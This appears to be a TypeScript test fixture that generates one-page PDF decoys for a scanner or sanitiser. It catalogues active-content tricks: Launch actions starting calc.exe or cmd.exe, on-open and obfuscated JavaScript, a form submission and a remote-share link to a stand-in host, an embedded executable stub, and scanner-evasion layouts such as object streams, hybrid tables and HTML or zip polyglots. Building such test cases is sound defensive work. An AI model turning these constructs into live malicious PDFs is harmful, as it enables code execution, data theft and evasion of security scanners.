import { deflateSync } from 'node:zlib'
import { pdf, pdfInObjectStream, stream } from './pdf.ts'

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const onPage = (annotation: string) => `/Annots[<</Type/Annot/Rect[0 0 9 9]${annotation}>>]`
const link = (action: string) => onPage(`/Subtype/Link/A${action}`)
const program = {
  4: '<</Type/Filespec/F(a.exe)/UF(a.exe)/AFRelationship/Data/EF<</F 5 0 R>>>>',
  5: stream('/Type/EmbeddedFile', Buffer.from('MZ')),
}
const xmp = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>Kilroy</dc:creator></x:xmpmeta>'

/** A document of an old and a new table of its objects, of which the new one says what the old one hides. */
function hybrid() {
  const action = { 9: '<</S/Launch/F(calc.exe)>>' }
  const build = (at: number) =>
    pdf({
      catalog: '/OpenAction 9 0 R',
      trailer: `/XRefStm ${String(at).padStart(6, '0')}`,
      objects: { ...action, 10: stream('/Type/XRef/W[1 2 1]/Size 11/Index[9 1]', Buffer.from([1, 0, 9, 0])) },
    })
  return build(build(0).indexOf('10 0 obj'))
}

/** What others have hidden in PDFs, each a document with one page that readers open. */
export const decoys: [string, Buffer][] = [
  ['a link that starts a program', pdf({ page: link('<</S/Launch/F(calc.exe)>>') })],
  ['a program that starts as it opens', pdf({ catalog: '/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>' })],
  ['a form that sends itself', pdf({ page: link('<</S/SubmitForm/F(https://kilroy.example)>>') })],
  ['a link into an attached document', pdf({ page: link('<</S/GoToE/T<</R/C/N(a)>>>>'), objects: program })],
  ['a link to another file', pdf({ page: link('<</S/GoToR/F(//kilroy.example/share)/D[0/Fit]>>') })],
  ['a link to a website', pdf({ page: link('<</S/URI/URI(https://kilroy.example)>>') })],
  ['data from outside', pdf({ page: link('<</S/ImportData/F(x.fdf)>>') })],
  ['a script as it opens', pdf({ catalog: `/OpenAction${script}` })],
  ['a named script', pdf({ catalog: `/Names<</JavaScript<</Names[(a)${script}]>>>>` })],
  ['a script in disguise', pdf({ catalog: '/OpenAction<</S/Java#53cript/#4aS(x)>>' })],
  ['actions of a page', pdf({ page: `/AA<</O${script}/C<</S/Launch/F(calc.exe)>>>>` })],
  ['actions of a note', pdf({ page: onPage(`/Subtype/Screen/AA<</PV${script}/E${script}>>`) })],
  [
    'a bookmark with a script',
    pdf({
      catalog: '/Outlines 4 0 R',
      objects: {
        4: '<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>',
        5: `<</Title(Kilroy)/Parent 4 0 R/A${script}>>`,
      },
    }),
  ],
  ['an attached program', pdf({ catalog: '/AF[4 0 R]/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>', objects: program })],
  ['a program pinned to the page', pdf({ page: onPage('/Subtype/FileAttachment/FS 4 0 R'), objects: program })],
  [
    'a form of another kind',
    pdf({ catalog: '/AcroForm<</Fields[]/XFA 4 0 R>>', objects: { 4: stream('', Buffer.from('<xdp:xdp/>')) } }),
  ],
  ['a film', pdf({ page: onPage('/Subtype/RichMedia/RichMediaContent<</Assets 4 0 R>>'), objects: program })],
  ['a rendition with a script', pdf({ page: link(`<</S/Rendition/OP 0/JS(x)/R<</S/MR>>>>`) })],
  ['an action in an object stream', pdfInObjectStream('/OpenAction 9 0 R', { 9: '<</S/Launch/F(c.exe)>>' })],
  [
    'a stream that blinds scanners',
    pdfInObjectStream('/OpenAction 9 0 R', { 9: '<</S/Launch/F(c.exe)>>' }, '/X (obj)'),
  ],
  ['two tables of its objects', hybrid()],
  ['a web page before it', Buffer.concat([Buffer.from('<script>alert("Kilroy")</script>\n'), pdf()])],
  ['an archive after it', Buffer.concat([pdf(), Buffer.from('504b0304', 'hex'), Buffer.from('Kilroy.exe')])],
  [
    'a name in its metadata',
    pdf({ trailer: '/Info 4 0 R', objects: { 4: '<</Author(Kilroy)/CreationDate(D:2026)>>' } }),
  ],
  [
    'a name in metadata and in a preview',
    pdf({
      catalog: '/Metadata 4 0 R/Lang(kilroy)',
      page: '/Thumb 5 0 R/PieceInfo<</Kilroy<</Private(Kilroy)>>>>',
      objects: {
        4: stream('/Type/Metadata/Subtype/XML', Buffer.from(xmp)),
        5: stream('/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode', deflateSync('K')),
      },
    }),
  ],
]
